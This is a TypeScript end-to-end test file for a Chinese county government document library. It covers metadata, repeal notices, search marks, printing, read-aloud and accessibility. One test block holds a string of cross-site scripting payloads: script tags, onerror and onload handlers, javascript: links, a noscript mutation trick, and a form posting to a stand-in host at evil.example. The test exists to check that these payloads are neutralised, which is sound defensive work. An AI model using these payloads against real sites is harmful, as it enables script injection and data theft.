import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Output } from '../../contract/index.ts';
import { type App, startApp } from './support/app.ts';
import { documentNamed } from './support/ask.ts';
import { seriousFindings } from './support/axe.ts';
import { openPage, type PageOptions } from './support/page.ts';
import { pdfText } from './support/pdf-text.ts';
import { smallTargets } from './support/touch.ts';

type DocumentRecord = Output<'library.document'>;

const repealedTitle = '云溪县人民政府关于印发《云溪县城乡居民最低生活保障实施细则》的通知';
const policyTitle = '云溪县人民政府关于印发《云溪县最低生活保障工作实施办法》的通知';

let app: App;
const records: Record<'repealed' | 'policy' | 'guide' | 'answer' | 'scan', DocumentRecord> = {} as never;

beforeAll(async () => {
  app = await startApp();
  records.repealed = await documentNamed(app, repealedTitle);
  records.policy = await documentNamed(app, policyTitle);
  records.guide = await documentNamed(app, '最低生活保障申请办事指南');
  records.answer = await documentNamed(app, '家里老人有退休金，还能申请低保吗？');
  records.scan = await documentNamed(app, '云溪县人民政府办公室关于做好2019年汛期值班和应急工作的通知');
});
afterAll(() => app.stop());

const open = async (
  record: DocumentRecord,
  options: PageOptions & { search?: string } = {},
): Promise<Page> => {
  const page = await openPage(app, { ...options, path: `/#/document/${record.id}${options.search ?? ''}` });
  await page.locator('.page-title').waitFor();
  return page;
};

/** Opens a document as if its record held what `change` puts into it. */
const openChanged = async (
  record: DocumentRecord,
  change: Partial<DocumentRecord>,
  search = '',
  expectedErrors?: RegExp,
): Promise<Page> => {
  const page = await openPage(app, {
    path: `/#/document/${record.id}${search}`,
    answers: { 'library.document': { ...record, ...change } },
    ...(expectedErrors ? { expectedErrors } : {}),
  });
  await page.locator('.page-title').waitFor();
  return page;
};

describe('a document', () => {
  it('shows the seven 元数据 in their order, the number, the column and the time to the minute', async () => {
    const page = await open(records.policy, { size: 'kiosk' });
    const names = await page.locator('.fact dt').allTextContents();
    expect(names.slice(0, 7)).toEqual([
      '名称',
      '索引号',
      '发布机构',
      '主题分类',
      '成文日期',
      '发布日期',
      '有效性',
    ]);
    const facts = page.locator('.facts');
    await facts.getByText('2023年6月1日 09:30').waitFor();
    await facts.getByText('云政发〔2023〕8号').waitFor();
    const crumbs = await page.getByRole('navigation', { name: '当前位置' }).locator('li').allTextContents();
    expect(crumbs.slice(1, -1)).toEqual(records.policy.column);
  });

  it('says unmistakably that it is repealed, on what basis, and leads to what is in force', async () => {
    const page = await open(records.repealed, { size: 'kiosk' });
    const banner = page.getByRole('region', { name: '本文件已废止' });
    await expect.poll(() => banner.textContent()).toContain('依据：云政发〔2023〕8号第三十一条');
    const history = page.locator('.fact', { hasText: '效力变化' }).locator('li');
    await expect
      .poll(() => history.allTextContents())
      .toEqual([
        expect.stringMatching(/^2023年7月1日起已废止；依据：云政发〔2023〕8号第三十一条；现行文件：/),
        '2019年7月1日起有效',
      ]);
    await banner.getByRole('link', { name: '查看现行文件' }).click();
    await page.getByRole('heading', { level: 1, name: policyTitle }).waitFor();
    await expect.poll(() => page.getByRole('region', { name: '本文件已废止' }).count()).toBe(0);
  });

  it('warns where the stated term has run out though the source does not say so', async () => {
    const validity = { ...records.policy.validity, to: '2024-06-30' };
    const page = await openChanged(records.policy, { validity, pastValidity: true });
    await expect.poll(() => page.locator('.validity-banner').textContent()).toContain('2024年6月30日');
  });

  it('says until when a notice stands, or that its time is over', async () => {
    const lasting = await documentNamed(app, '云溪县第一批历史建筑保护名录公示');
    const page = await open(lasting, { size: 'kiosk' });
    await page.getByText('公示中，2035年12月31日截止').waitFor();
    const over = await openChanged(lasting, {
      notice: { kind: 'publicity', from: null, to: '2026-03-13', over: true },
    });
    await over.getByText('公示已于2026年3月13日结束').waitFor();
  });

  it('leads from policy to interpretation and back, and to its predecessor once', async () => {
    const page = await open(records.policy);
    await expect.poll(() => page.locator('.related a', { hasText: '最低生活保障实施细则' }).count()).toBe(1);
    await page.getByRole('link', { name: /最低生活保障工作实施办法》政策解读/ }).click();
    await page.getByRole('heading', { level: 3, name: '解读的文件' }).waitFor();
    await page.locator('.related a', { hasText: policyTitle }).click();
    await page.getByRole('heading', { level: 1, name: policyTitle }).waitFor();
  });

  it('walks through the steps of a guide by keyboard', async () => {
    const page = await open(records.guide, { size: 'kiosk' });
    const payload = records.guide.payload;
    if (payload?.kind !== 'guide') throw new Error('the sample guide has no steps');
    const next = page.getByRole('button', { name: '下一步' });
    for (const step of payload.steps.slice(0, -1)) {
      await page.locator('.guide-step:visible', { hasText: step.title || step.text }).waitFor();
      await next.press('Enter');
    }
    await expect.poll(() => next.isDisabled()).toBe(true);
    await page.getByText(`第 ${payload.steps.length} 步，共 ${payload.steps.length} 步`).waitFor();
    for (const name of ['需要的材料', '办理时限', '收费'])
      await page.locator('.guide dt', { hasText: name }).waitFor();
  });

  it('shows question and answer with their basis', async () => {
    const page = await open(records.answer);
    const card = page.locator('.question');
    const { payload } = records.answer;
    if (payload?.kind !== 'answer') throw new Error('the sample answer has no question');
    await expect.poll(() => card.locator('.turn-question p').textContent()).toBe(payload.question);
    await expect.poll(() => card.locator('.turn-answer p').textContent()).toBe(payload.answer);
  });

  it('marks every place of the words searched and walks from one to the next', async () => {
    const page = await open(records.repealed, { search: `?q=${encodeURIComponent('低保')}` });
    const total = await page.locator('mark[data-hit]').count();
    expect(total).toBeGreaterThan(1);
    await page.getByText(`“低保”：第 1 处，共 ${total} 处`).waitFor();
    await page.getByRole('button', { name: '下一处' }).click();
    await page.getByText(`“低保”：第 2 处，共 ${total} 处`).waitFor();
    const current = page.locator('mark.current-hit');
    await expect.poll(() => current.getAttribute('data-hit')).toBe('1');
    await expect.poll(() => current.evaluate(mark => mark.getBoundingClientRect().top > 0)).toBe(true);
    await page.getByRole('button', { name: '上一处' }).click();
    await page.getByRole('button', { name: '上一处' }).click();
    await page.getByText(`第 ${total} 处，共 ${total} 处`).waitFor();
  });

  it('jumps by the contents list of a long text', async () => {
    const page = await open(records.repealed);
    await page.getByRole('navigation', { name: '本文目录' }).getByRole('button', { name: '第四章' }).click();
    const target = page.locator('.block-heading', { hasText: '第四章' });
    await expect.poll(() => target.evaluate(element => document.activeElement === element)).toBe(true);
  });

  it('keeps every character of a plain text and indents its paragraphs', async () => {
    const page = await open(records.repealed);
    const shown = await page
      .locator('.paper-text')
      .evaluate(root => [...root.children].map(line => line.textContent).join('\n'));
    expect(records.repealed.text.startsWith(shown)).toBe(true);
    const indent = await page
      .locator('.block-paragraph')
      .first()
      .evaluate(line => parseFloat(getComputedStyle(line).textIndent));
    expect(indent).toBeGreaterThan(30);
  });

  it('names its files with type, size, pages, and says which cannot be searched', async () => {
    const page = await open(records.scan);
    const file = page.locator('.file').first();
    await expect.poll(() => file.textContent()).toMatch(/原文 · PDF · \d+ KB · \d+ 页/);
    await file.getByText('无文本层').waitFor();
  });

  it('obeys the text size', async () => {
    const page = await open(records.repealed);
    const size = () =>
      page
        .locator('.block-paragraph')
        .first()
        .evaluate(line => parseFloat(getComputedStyle(line).fontSize));
    const before = await size();
    await page.getByText('特大', { exact: true }).click();
    expect(await size()).toBeGreaterThan(before * 1.2);
  });

  it('says that it is not there', async () => {
    const page = await openPage(app, { path: '/#/document/nosuch00', expectedErrors: /404/ });
    await page.getByText('没有找到这份文件').waitFor();
    await expect.poll(() => page.getByRole('button', { name: '重试' }).count()).toBe(0);
  });

  it('leads to other documents of the library, and nowhere else', async () => {
    const known = 'https://www.yunxi.example/zwgk/art_1.html';
    const page = await openChanged(records.policy, {
      html: `<p><a href="${known}">现行办法</a>，<a href="https://elsewhere.example/">别处</a></p>`,
      links: { [known]: records.guide.id },
    });
    const paper = page.locator('.paper-html');
    await paper.getByText('别处').waitFor();
    await expect.poll(() => paper.locator('a').allTextContents()).toEqual(['现行办法']);
    await expect.poll(() => paper.textContent()).toBe('现行办法，别处');
    await page.unroute('**/api/library.document');
    await paper.getByRole('link', { name: '现行办法' }).click();
    await page.locator('.page-title').getByText(records.guide.title).waitFor();
  });
});

describe('what can be taken along', () => {
  it('is the public address as a QR code', async () => {
    const page = await open(records.policy);
    await page.getByRole('img', { name: `二维码，网址 ${records.policy.source.url}` }).waitFor();
  });

  it('is never an address of this machine or its network', async () => {
    for (const url of [
      'http://127.0.0.1:8686/#/document/x',
      'http://10.0.0.8/a',
      'file:///data/a.html',
      null,
    ]) {
      const page = await openChanged(records.policy, { source: { ...records.policy.source, url } });
      await expect.poll(() => page.locator('.qr').count(), { message: String(url) }).toBe(0);
    }
  });

  it('is printed on A4 with validity, source, address, checksum and time on every page', async () => {
    const page = await open(records.repealed);
    await page.emulateMedia({ media: 'print' });
    const pages = await pdfText(await page.pdf({ preferCSSPageSize: true }));
    expect(pages.length).toBeGreaterThan(1);
    const hash = records.repealed.files[0]?.sha256 ?? '';
    for (const { text, width, height } of pages) {
      expect([Math.round(width), Math.round(height)]).toEqual([595, 842]);
      const plain = text.replace(/\s/g, '');
      expect(plain).toContain('已废止');
      expect(plain).toContain('来源：云溪县人民政府网站');
      expect(plain).toContain(`文件校验码：${hash.slice(0, 12)}`);
      expect(plain).toContain(`网址：${records.repealed.source.url}`);
      expect(plain).toMatch(/打印时间：\d{4}年\d{1,2}月\d{1,2}日\d{2}:\d{2}/);
      for (const frame of ['查文件', '长辈版', '返回']) expect(plain).not.toContain(frame);
    }
    expect(pages[0]?.text.replace(/\s/g, '')).toContain('本文件已废止');
  });

  it('is printed by the browser where no shell does it', async () => {
    const page = await open(records.policy);
    await page.evaluate(() => {
      window.print = () => document.body.setAttribute('data-printed', '');
    });
    await page.getByRole('button', { name: '打印' }).click();
    await page.locator('body[data-printed]').waitFor();
  });
});

describe('nothing a document contains', () => {
  const hostile = `
    <h2>恶意公告</h2><p id="root" onclick="hacked()" style="background:url(https://evil.example/a.png)">第一段</p>
    <script>window.hacked = 'script'</script><img src="x" onerror="window.hacked='onerror'" alt="说明">
    <img src="https://evil.example/pixel.png" alt="外图"><img src="/files/${'0'.repeat(63)}g" alt="">
    <svg onload="window.hacked='svg'"><a href="https://evil.example/">图</a></svg><math><mi>x</mi></math>
    <iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object><embed src="//evil.example/">
    <form action="https://evil.example/steal"><input name="id"><button>提交</button></form>
    <a href="javascript:window.hacked='link'">链接一</a> <a href="https://evil.example/" target="_blank">链接二</a>
    <a href="//evil.example/">链接三</a> <a href="#/desk">链接四</a> <a href="data:text/html,<script>1</script>">链接五</a>
    <style>@import url(https://evil.example/x.css); body { display: none }</style><link rel="stylesheet" href="https://evil.example/y.css">
    <meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
    <video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio>
    <div data-say="x" class="reader" name="getElementById">末段</div>
    <table><tr><td colspan="2">表<b>格</b></td></tr></table>
    <noscript><p title="</noscript><img src=x onerror=window.hacked='noscript'>"></noscript>`;

  it('can run, load, submit, navigate or restyle the page', async () => {
    // Chromium reports what it refuses already while the text is taken apart.
    const refused = /violates the following Content Security Policy directive/;
    const page = await openChanged(records.policy, { html: hostile, text: '恶意公告' }, '', refused);
    const windows: unknown[] = [];
    page.context().on('page', opened => windows.push(opened));
    const paper = page.locator('.paper-html');
    await paper.getByText('末段').waitFor();
    for (const words of ['链接一', '链接二', '链接三', '链接四', '链接五'])
      await paper.getByText(words).click();
    await page.waitForTimeout(300);
    expect(await page.evaluate(() => (window as { hacked?: string }).hacked)).toBeUndefined();
    const left = await paper.evaluate(root => ({
      tags: [...new Set([...root.querySelectorAll('*')].map(element => element.localName))].sort(),
      attributes: [
        ...new Set([...root.querySelectorAll('*')].flatMap(element => element.getAttributeNames())),
      ].sort(),
    }));
    expect(left.tags).toEqual(['b', 'div', 'h2', 'p', 'table', 'tbody', 'td', 'tr']);
    expect(left.attributes).toEqual([
      ...['aria-label', 'aria-level', 'class', 'colspan', 'data-say', 'role', 'tabindex'],
    ]);
    await expect.poll(() => paper.textContent()).toContain('外图');
    expect(windows).toEqual([]);
    expect(page.url()).toContain(`#/document/${records.policy.id}`);
  });

  it('keeps a mark from running through bold words and table cells', async () => {
    const html = '<p>政务<b>公</b>开</p><table><tr><td>政务</td><td>公开</td></tr></table>';
    const page = await openChanged(
      records.policy,
      { html, text: '' },
      `?q=${encodeURIComponent('政务公开')}`,
    );
    await page.locator('mark').first().waitFor();
    await expect.poll(() => page.locator('mark').allTextContents()).toEqual(['政务', '公', '开']);
    await page.getByText('第 1 处，共 1 处').waitFor();
  });
});

describe('reading aloud', () => {
  it('follows the paragraphs, pauses, goes on and stops', async () => {
    const page = await open(records.repealed);
    await page.evaluate(() => {
      const spoken: string[] = [];
      const waiting: SpeechSynthesisUtterance[] = [];
      Object.assign(window, { spoken, sayNext: () => waiting.shift()?.onend?.({} as SpeechSynthesisEvent) });
      const voice = { localService: true, lang: 'zh-CN', name: '本机' };
      Object.assign(window, {
        SpeechSynthesisUtterance: class {
          text: string;
          constructor(text: string) {
            this.text = text;
          }
        },
      });
      Object.defineProperties(speechSynthesis, {
        getVoices: { value: () => [voice] },
        speak: {
          value: (words: SpeechSynthesisUtterance) => {
            spoken.push(words.text);
            waiting.push(words);
          },
        },
        cancel: { value: () => void waiting.splice(0) },
        pause: { value: () => spoken.push('pause') },
        resume: { value: () => spoken.push('resume') },
      });
      speechSynthesis.dispatchEvent(new Event('voiceschanged'));
    });
    await page.getByRole('button', { name: '朗读正文' }).click();
    const first = page.locator('.being-read');
    await first.waitFor();
    const before = await first.textContent();
    await page.getByRole('button', { name: '暂停' }).click();
    await page.getByRole('button', { name: '继续' }).click();
    await page.evaluate('window.sayNext()');
    await expect.poll(() => page.locator('.being-read').textContent()).not.toBe(before);
    await page.getByRole('button', { name: '停止' }).last().click();
    await expect.poll(() => page.locator('.being-read').count()).toBe(0);
    expect(await page.evaluate('window.spoken')).toEqual(expect.arrayContaining([before, 'pause', 'resume']));
  });
});

describe('a document for everybody', () => {
  it.each([
    ['kiosk', undefined],
    ['desktop', 'elder'],
    ['kiosk', 'contrast'],
  ] as const)('has no serious finding and no small target at %s size, %s', async (size, mode) => {
    const search = `?q=${encodeURIComponent('低保')}`;
    const page = await open(records.repealed, { size, search, ...(mode ? { mode } : {}) });
    for (const record of [records.repealed, records.guide, records.policy]) {
      await page.evaluate(hash => location.assign(hash), `#/document/${record.id}${search}`);
      await page.locator('.page-title', { hasText: record.title }).waitFor();
      await page.locator('.hit-bar').waitFor();
      expect(await seriousFindings(page)).toEqual([]);
      expect(await smallTargets(page)).toEqual([]);
    }
  });

  it('speaks the language of the interface and keeps the words of the document', async () => {
    const page = await open(records.repealed, { lang: 'en' });
    await page.getByText('This document has been repealed').waitFor();
    await expect.poll(() => page.locator('.document-title').textContent()).toBe(records.repealed.title);
  });
});
